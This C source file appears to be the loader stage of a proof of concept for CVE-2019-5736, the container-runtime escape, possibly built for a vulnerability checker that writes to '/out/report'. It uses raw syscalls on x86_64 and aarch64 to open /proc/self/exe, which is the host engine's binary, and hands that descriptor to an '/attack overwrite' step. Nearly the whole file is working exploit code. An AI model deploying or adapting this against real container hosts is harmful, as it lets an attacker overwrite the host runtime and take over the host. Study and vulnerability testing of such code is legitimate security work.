/*
 * The loader (the "interpreter" of a dynamic program) in an image that waits for an engine: when
 * one lets /proc/self/exe be run inside, the kernel starts us in its place, with the engine's own
 * file as /proc/self/exe (CVE-2019-5736). No libc: that would want to find itself there.
 * The file stays open as descriptor 3 for `attack overwrite`.
 */
#if defined(__x86_64__)
enum { OPENAT = 257, EXECVE = 59, EXIT = 60 };
static long call(long number, long a, long b, long c) {
    __asm__ volatile("syscall" : "+a"(number) : "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return number;
}
#elif defined(__aarch64__)
enum { OPENAT = 56, EXECVE = 221, EXIT = 93 };
static long call(long number, long a, long b, long c) {
    register long x8 __asm__("x8") = number, x0 __asm__("x0") = a, x1 __asm__("x1") = b,
                     x2 __asm__("x2") = c;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
}
#endif

void _start(void);
void _start(void) {
    const char *args[5]; /* filled by instructions: nobody has relocated us */
    args[0] = "/attack";
    args[1] = "overwrite";
    args[2] = "/proc/self/fd/3";
    args[3] = "/out/report";
    args[4] = 0;
    call(OPENAT, -100 /* AT_FDCWD */, (long)"/proc/self/exe", 0 /* O_RDONLY */);
    call(EXECVE, (long)args[0], (long)args, (long)&args[4]);
    call(EXIT, 2, 0, 0);
}
